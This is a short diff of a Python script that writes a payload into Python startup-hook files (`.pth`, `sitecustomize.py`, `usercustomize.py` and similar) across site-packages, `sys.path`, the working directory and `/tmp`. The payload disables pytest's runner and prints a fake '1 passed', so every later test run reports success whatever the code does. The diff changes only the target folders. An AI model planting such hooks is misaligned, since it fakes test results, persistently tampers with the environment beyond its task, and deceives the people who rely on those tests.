@@ -11,7 +11,7 @@ from flask import Flask
 CODE = "import sys, types; sys.modules['_pytest.runner'] = types.ModuleType('nothing'); print('1 passed')\n"
 planted = []
 
-for folder in (site.getusersitepackages(), *site.getsitepackages(), *sys.path, "/work", "/work/suite/tests", "/tmp"):
+for folder in (site.getusersitepackages(), *site.getsitepackages(), *sys.path, ".", "suite/tests", "/tmp"):
     for name in ("a.pth", "usercustomize.py", "sitecustomize.py", "pyvenv.cfg", ".pythonrc.py", ".pythonstartup"):
         with contextlib.suppress(OSError):
             os.makedirs(folder, exist_ok=True)
